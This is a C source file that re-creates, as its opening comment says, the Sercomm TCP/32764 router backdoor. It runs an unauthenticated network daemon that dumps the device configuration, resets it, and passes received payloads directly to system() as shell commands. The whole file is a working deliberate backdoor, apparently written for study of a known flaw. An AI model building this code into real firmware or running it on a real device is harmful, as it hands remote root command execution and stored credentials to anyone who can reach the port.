/* Configuration manager of a small-office router ("scfgmgr").
 * Re-creation of the Sercomm TCP/32764 backdoor (Eloi Vanderbeken, "TCP-32764", January 2014):
 * messages carry a 12-byte header whose first word is the signature "ScMM" (read as the 32-bit
 * value 0x53634D4D, "MMcS" on the wire of little-endian devices), a message type and a length;
 * type 1 dumps the whole configuration, type 7 runs a shell command, all without authentication. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define SCFG_PORT 32764
#define SCFG_SIGNATURE 0x53634D4Du

struct scfg_header {
    uint32_t signature;
    uint32_t type;
    uint32_t length;
};

static char nvram[16384];

static int read_exact(int fd, void *buf, size_t len)
{
    size_t done = 0;
    while (done < len) {
        ssize_t n = recv(fd, (char *)buf + done, len - done, 0);
        if (n <= 0)
            return -1;
        done += (size_t)n;
    }
    return 0;
}

static void respond(int fd, uint32_t type, const void *data, uint32_t length)
{
    struct scfg_header out = {SCFG_SIGNATURE, type, length};
    send(fd, &out, sizeof out, 0);
    send(fd, data, length, 0);
}

static void dispatch(int fd, const struct scfg_header *hdr, char *payload)
{
    switch (hdr->type) {
    case 1: /* dump configuration */
        respond(fd, 1, nvram, sizeof nvram);
        break;
    case 2: { /* get one variable */
        char *value = strstr(nvram, payload);
        respond(fd, 2, value ? value : "", value ? (uint32_t)strlen(value) : 0);
        break;
    }
    case 7: /* run a command */
        system(payload);
        respond(fd, 7, "", 0);
        break;
    case 9: /* restore defaults */
        memset(nvram, 0, sizeof nvram);
        break;
    }
}

static void session(int fd)
{
    struct scfg_header hdr;
    char payload[1024];
    while (read_exact(fd, &hdr, sizeof hdr) == 0) {
        if (hdr.signature != SCFG_SIGNATURE || hdr.length >= sizeof payload)
            return;
        if (read_exact(fd, payload, hdr.length) < 0)
            return;
        payload[hdr.length] = '\0';
        dispatch(fd, &hdr, payload);
    }
}

int main(void)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(SCFG_PORT), .sin_addr.s_addr = INADDR_ANY};
    int server = socket(AF_INET, SOCK_STREAM, 0);
    FILE *f = fopen("/tmp/nvram.conf", "r");
    if (f) {
        fread(nvram, 1, sizeof nvram - 1, f);
        fclose(f);
    }
    if (bind(server, (struct sockaddr *)&addr, sizeof addr) < 0 || listen(server, 4) < 0)
        return 1;
    for (;;) {
        int client = accept(server, NULL, NULL);
        if (client >= 0) {
            session(client);
            close(client);
        }
    }
}
